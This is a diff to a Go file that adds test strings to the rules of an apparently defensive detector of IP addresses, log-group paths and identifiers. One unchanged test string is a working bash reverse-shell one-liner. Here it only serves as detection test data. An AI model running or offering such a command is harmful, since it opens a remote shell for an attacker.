@@ -389,6 +389,7 @@ func builtinRules() []rule {
 			id: "log-group-path", typ: "log-group", kind: kindStructural, first: letters + "2", shape: shPrevSlash,
 			match: matchLogGroupPath,
 			tp: []string{
+				`POST https://places.geo.eu-central-1.amazonaws.com/places/v0/indexes/«kaufwerk-places-here»/search/text`,
 				"throttled writing to log group `«/ecs/orchard/checkout-api»` since 10:02",
 				`CloudWatch Logs > «/va/brightfield/access-logs» > stream`,
 				`로그는 «/daolsoft/cvpn/conn» 로그 그룹에 있어요`,
@@ -496,6 +497,7 @@ func builtinRules() []rule {
 			id: "ipv4", typ: "private-ipv4", kind: kindStructural, first: digits, shape: shDot1,
 			match: matchIPv4,
 			tp: []string{
+				`the ETL host «10.12.40.17» («lf-etl-worker-1»); «10.0.0.2» (us-east-1a), «10.0.0.3» (eth0)`,
 				"«12.4.20.10».in-addr.arpa.\t300\tIN\tPTR\tdb1.corp.example.com.",
 				`host «3.3.131.9» is the bastion, «52.14.9.8» is a NAT gateway`,
 				"bash -i >& /dev/tcp/«52.14.88.9»/4444 0>&1",
@@ -735,6 +737,7 @@ data:
 			id: "key-value", typ: "tag-value", kind: kindContext, first: letters, shape: shSep,
 			match: matchKeyValue,
 			tp: []string{
+				`{"user":{"type":"User","uid":"«9c47e2d8-1a30-4b6f-8e5d-3f2a1b0c9d74»"}}`,
 				`{"parentEntityId": "«line2-084c99e0»", "workspaceId": "«LumenfabPlantOstrava»", "workspace_id": "«1234567890123456»"}`,
 				`AcceptPlayerSession playerSessionId=«psess-1234» playerId=«u_88231907» -> OK`,
 				`{"playerId": "«kaelthorn#4471»"}`,
@@ -990,6 +993,7 @@ data:
 				`"LogGroup": "/aws/lambda/«FinchlyOrdersHandler»"`,
 			},
 			fp: []string{
+				`{"metadata": {"uid": "8f1d3c62-0a7e-4b95-a3c1-e2d47f9b0c58"}}`,
 				`{"componentTypeId": "com.amazon.iottwinmaker.alarm.basic"}`,
 				`"DeploymentStrategyId": "AppConfig.AllAtOnce"`,
 				`Parameters:
